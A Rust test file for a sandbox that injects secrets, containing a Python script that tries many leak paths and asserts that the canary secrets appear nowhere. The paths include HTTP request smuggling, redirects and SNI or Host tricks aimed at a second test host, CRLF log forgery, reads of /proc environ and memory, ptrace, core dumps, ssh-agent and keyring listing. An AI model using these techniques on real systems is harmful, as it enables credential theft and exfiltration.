//! Every way that we know by which code in the sandbox could get at a secret, in one table: the canary is found nowhere (issue 4,
//! point 3).

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::Value;

use crate::cases;
use crate::internet::internet;
use crate::sandbox::Run;
use crate::secret::assert_absent;

cases![no_way_leads_to_a_secret];

const HOST: &str = "canary.allowed.test";
const OTHER: &str = "canary-other.allowed.test";
/// With what base64, paths and forms write in their own way.
const FROM_FILE: &str = "sk+canaryOfFile/4f9QzT27+x";
const FROM_COMMAND: &str = "sk+canaryOfCommand/8Kd31m+y";
const FROM_ENVIRONMENT: &str = "sk+canaryOfEnvironment/Wq7+z";

/// The ways. Each keeps all that it got in a file of its own; one that got nothing at all has not tried.
const WAYS: &str = r#"
import base64, ctypes, glob, subprocess
HOST, OTHER, FILE, COMMAND, AUDIT = sys.argv[1:6]
TOKEN = os.environ["CANARY_TOKEN"]
os.mkdir("got")
ways = []

def way(name, got):
    try:
        got = got() if callable(got) else got
    except Exception as error:
        got = f"failed: {error!r}"
    got = got if isinstance(got, bytes) else str(got).encode()
    with open(f"got/{len(ways):02}", "wb") as file:
        file.write(got)
    ways.append([name, len(got)])

def drain(sock):
    got = b""
    try:
        while part := sock.recv(65536):
            got += part
    except OSError as error:
        got += repr(error).encode()
    return got or b"closed without a word"

def send(target, *lines, method="GET", host=HOST, to=None, sni=None, body=""):
    sock = tls(socket.create_connection((to or host, 443)), sni or to or host)
    head = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *lines]
    sock.sendall(("\r\n".join(head) + "\r\n\r\n" + body).encode())
    return drain(sock)

def run(*words, **more):
    done = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, **more)
    return b"%d " % done.returncode + done.stdout

def read(pattern, limit=1 << 20):
    got = b"read: "
    for path in sorted(glob.glob(pattern)):
        try:
            with open(path, "rb", 0) as file:
                got += file.read(limit) or b""
        except OSError as error:
            got += repr(error).encode()
    return got

# The upstream shows what it was sent.
for coding in ["", "gzip", "br", "zstd", "deflate", "gzip,br"]:
    for cut in [1, 7]:
        way(f"echo in {coding or 'identity'}, {cut} bytes at a time", lambda: send(f"/mirror?coding={coding}&cut={cut}", "TE: trailers"))
way("echo as JSON", lambda: send("/echo"))
for coding in ["", "gzip"]:
    way(f"echo over h2 {coding}", lambda: run("curl", "-sSi", "--http2", "-H", "Accept-Encoding: gzip", f"https://{HOST}/mirror?coding={coding}"))
for code in [201, 302, 304, 401, 403, 404, 500, 503]:
    way(f"page of status {code}", lambda: send(f"/mirror?status={code}"))
for method in ["HEAD", "OPTIONS", "TRACE", "POST", "PUT", "DELETE", "PROPFIND"]:
    way(f"method {method}", lambda: send("/mirror", "Content-Length: 0", method=method))
way("gRPC", lambda: send("/mirror?type=application/grpc", "Content-Type: application/grpc", "TE: trailers"))
way("gRPC with compressed messages", lambda: send("/mirror?type=application/grpc&message=gzip", "grpc-accept-encoding: gzip"))
way("a coding that nobody knows", lambda: send("/mirror?coding=rot13"))
way("a broken gzip", lambda: send("/mirror?coding=gzip&broken=yes"))
for part in ["0-6", "7-", "-9", "0-0,2-2,4-4"]:
    way(f"bytes {part}", lambda: send("/mirror", f"Range: bytes={part}"))
way("a client that takes nothing that is known", lambda: send("/mirror", "Accept-Encoding: rot13, identity;q=0"))
def event():
    stream = tls(socket.create_connection((HOST, 443)), HOST)
    stream.sendall(f"GET /mirror-events?id=canary&coding=gzip HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    got = stream.recv(65536)
    for text in ["data: {KEY}\n\n", ""]:
        send("/send?id=canary", f"Content-Length: {len(text)}", method="POST", body=text)
    return got + stream.recv(65536)
way("an event", event)

# The secret is sent somewhere else.
def follow(to):
    got = send(f"/redirect?to={to}")
    place = [line.split(b": ", 1)[1] for line in got.split(b"\r\n") if line.lower().startswith(b"location")][0].decode()
    return got + run("curl", "-sSi", "--max-time", "10", place)
way("redirect to another host", lambda: follow(f"https://{OTHER}/echo"))
way("redirect to another port", lambda: follow(f"https://{HOST}:8443/echo"))
way("redirect to http", lambda: follow(f"http://{HOST}/echo"))
way("curl follows", lambda: run("curl", "-sSiL", "--location-trusted", "-H", "X-Key: mine", f"https://{HOST}/redirect?to=https://{OTHER}/echo"))
way("name of the other in the handshake", lambda: send("/echo", to=HOST, sni=OTHER))
way("name of the other in Host", lambda: send("/echo", host=OTHER, to=HOST))
way("two Hosts", lambda: send("/echo", f"Host: {OTHER}"))
way("a target with the other's name", lambda: send(f"https://{OTHER}/echo"))
way("CONNECT to the other, TLS to the bound", lambda: ask(tls(connect(OTHER), HOST), "GET /echo HTTP/1.1", f"Host: {HOST}"))
way("CONNECT to the bound, TLS to the other", lambda: ask(tls(connect(HOST), OTHER), "GET /echo HTTP/1.1", f"Host: {OTHER}"))
way("user part in Host", lambda: send("/echo", host=f"{HOST}@{OTHER}", to=HOST))
way("plain http", lambda: through_proxy(f"http://{HOST}/echo", HOST))
way("smuggled behind another length", lambda: send("/echo", "Content-Length: 4", "Transfer-Encoding: chunked", method="POST",
    body=f"0\r\n\r\nGET /echo HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"))
way("a path outside", lambda: send("/elsewhere/echo", host=OTHER))

# The client's own header.
for line in ["X-Key: mine", "X_Key: mine", "Connection: close, X-Key", "x-key:"]:
    way(f"own header {line}", lambda: send("/mirror", line))
way("own trailer", lambda: send("/mirror", "Transfer-Encoding: chunked", "Trailer: X-Key", method="POST", body="0\r\nX-Key: mine\r\n\r\n"))
way("a folded line", lambda: send("/mirror", "X-Other: a\r\n X-Key: mine"))
way("a line of the audit's own", lambda: send('/echo?a=%0d%0a{"forged":true}'))

# The stand-in.
for host in [HOST, OTHER]:
    way(f"stand-in in another header of {host}", lambda: send("/echo", f"X-Debug: {TOKEN}", host=host))
way("stand-in in a query", lambda: send(f"/echo?{TOKEN}", host=OTHER))
way("stand-in in Basic elsewhere", lambda: send("/echo", "Authorization: Basic " + base64.b64encode(f"u:{TOKEN}".encode()).decode(), host=OTHER))
way("a key that begins like it", lambda: send("/echo", f"Authorization: Bearer {TOKEN[:-1]}"))

# On this machine.
way("environments", lambda: read("/proc/[0-9]*/environ"))
way("command lines", lambda: read("/proc/[0-9]*/cmdline"))
way("memory of pid 1", lambda: read("/proc/1/mem", 1))
way("descriptors of pid 1", lambda: read("/proc/1/fd/*", 4096))
def vm_read():
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.process_vm_readv(1, vector, 1, vector, 1, 0)
    return b"%d %d" % (got, ctypes.get_errno()) + buffer.raw
way("process_vm_readv", vm_read)
way("ptrace", lambda: ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0))
way("a core", lambda: run("sh", "-c", "ulimit -c unlimited; kill -SEGV $$; ls") + read("core*"))
for words in [["cat", FILE], ["cp", FILE, "copy"], ["ln", FILE, "link"], ["ls", "-la", os.path.dirname(FILE)], ["grep", "-ra", "canary", os.path.dirname(FILE)]]:
    way(f"the file: {words[0]}", lambda: run(*words))
way("the command: read", lambda: run("cat", COMMAND))
way("the command: run", lambda: run("sh", COMMAND))
way("the audit", lambda: run("cat", AUDIT))
way("sockets of agents", lambda: run("sh", "-c", "env; ls -la /run/user /tmp $XDG_RUNTIME_DIR; ssh-add -l"))
way("the system's keyring", lambda: run("sh", "-c", "cat /proc/keys /proc/key-users; keyctl show"))
tell(ways)
"#;

fn private(path: &Path, text: &str, mode: u32) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn no_way_leads_to_a_secret() {
    let run = Run::new().allow(HOST).allow(OTHER);
    let (file, command) = (run.outside().join("secrets/key"), run.outside().join("issuer/issue"));
    private(&file, FROM_FILE, 0o600);
    private(&command, &format!("#!/bin/sh\nprintf %s {FROM_COMMAND}\n"), 0o700);
    let (file, command) = (file.display().to_string(), command.display().to_string());
    let audit = run.audit_file();
    let run = run.bind(&format!("{HOST} X-Key: {{FILE}}")).arg("--secret").arg(&format!("FILE=file:{file}"));
    let run = run
        .bind(&format!("{HOST}/ Authorization: Bearer {{RUN}}"))
        .arg("--secret")
        .arg(&format!("RUN=command:{command}"));
    let run = run.bind(&format!("{OTHER}/bound/ X-Key: {{ENV}}")).secret_env("ENV", FROM_ENVIRONMENT);
    let run = run.arg("--placeholder").arg("RUN=CANARY_TOKEN");
    let work = run.work();
    let code = format!("{}{WAYS}", include_str!("inside.py"));
    let shown = audit.display().to_string();
    let words = ["/usr/bin/python3", "-c", &code, HOST, OTHER, &file, &command, &shown];
    let output = run.command(&words).run();
    output.expect_code(0);
    let ways: Vec<(String, u64)> = serde_json::from_str(output.stdout.trim()).unwrap();
    assert!(ways.len() >= 80 && ways.iter().all(|(_, got)| *got > 0), "{} ways: {ways:?}", ways.len());
    for secret in [FROM_FILE, FROM_COMMAND, FROM_ENVIRONMENT] {
        for (number, (name, _)) in ways.iter().enumerate() {
            assert_absent(secret, name, &fs::read(work.join(format!("got/{number:02}"))).unwrap());
        }
        for entry in fs::read_dir(&work).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_file()) {
            assert_absent(secret, &entry.display().to_string(), &fs::read(&entry).unwrap());
        }
        assert_absent(secret, "standard error", output.stderr.as_bytes());
        assert_absent(secret, "the audit", &fs::read(&audit).unwrap());
    }
    // It was there to be shown, and went nowhere else.
    let bound = internet().web.requests(HOST);
    assert!(bound.iter().filter(|request| request.header("x-key") == [FROM_FILE]).count() > 40, "{}", bound.len());
    for request in internet().web.requests(OTHER) {
        let held =
            [FROM_FILE, FROM_COMMAND, FROM_ENVIRONMENT].iter().map(|secret| request.count(secret)).sum::<usize>();
        assert_eq!(held, 0, "{request:?}");
    }
    let forged = output.audit.iter().filter(|row| row.get("forged").is_some()).count();
    assert_eq!((forged, output.audit.iter().all(Value::is_object)), (0, true));
}
